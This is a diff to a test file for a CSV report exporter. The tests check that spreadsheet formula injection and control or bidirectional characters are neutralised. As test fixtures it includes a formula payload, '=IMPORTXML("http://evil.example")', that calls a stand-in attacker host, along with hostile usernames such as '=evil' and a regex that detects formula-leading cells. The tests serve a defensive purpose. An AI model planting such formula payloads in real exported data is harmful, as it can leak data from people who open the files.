@@ -59,17 +59,18 @@ describe('csv reporter', () => {
     check.status = 'error';
     check.message = '=IMPORTXML("http://evil.example")';
     const { header, rows, text } = await table(run);
-    expect(rows.map((r) => r.user)).toEqual(hostile.map((u) => `'${u}`));
+    // A tab is a space on one line; the formula behind it is defused all the same.
+    expect(rows.map((r) => r.user)).toEqual(hostile.map((u) => `'${u.replace('\t', ' ')}`));
     expect(header).toContain("'=ex2.evil");
     expect(rows[0][ERRORS_COLUMN]).toBe("'=ex2.evil");
     expect(text).not.toContain('IMPORTXML'); // messages are not exported at all
     for (const cell of [...header, ...rows.flatMap((r) => Object.values(r))]) expect(cell).not.toMatch(/^\s*[=+\-@]|^[\t\r]/);
   });
 
-  it('quotes commas, quotes and newlines so the row survives', () => {
+  it('quotes commas and quotes, and puts a newline on the line, so the row survives', () => {
     const text = ['a,"b"\nc', 'plain'].map(csvCell).join(',') + '\r\n';
-    expect(text).toBe('"a,""b""\nc",plain\r\n');
-    expect(parseCsv(text)).toEqual([['a,"b"\nc', 'plain']]);
+    expect(text).toBe('"a,""b"" c",plain\r\n');
+    expect(parseCsv(text)).toEqual([['a,"b" c', 'plain']]);
   });
 
   it('writes numbers as numbers, a negative one too, and nothing for NaN', () => {
@@ -89,5 +90,14 @@ describe('csv reporter', () => {
     a.checks = a.checks.filter((c) => c.id !== 'ex2.compose.ports');
     b.checks = b.checks.filter((c) => c.id !== 'ex7.tiller');
     expect(checkCatalogue(run).map((c) => c.id)).toEqual(run.students[2].checks.map((c) => c.id));
+  });
+
+  it('keeps a text cell on one line, without control or bidirectional characters', async () => {
+    expect(csvCell('lab\nuser\u202E07\u0007')).toBe('lab user07');
+    const run = loadClassSmall();
+    run.students[0].user = '=evil\r\n"user"\u2066';
+    const { rows, text } = await table(run);
+    expect(text.split('\r\n')).toHaveLength(run.students.length + 2);
+    expect(rows[0].user).toBe(`'=evil "user"`);
   });
 });
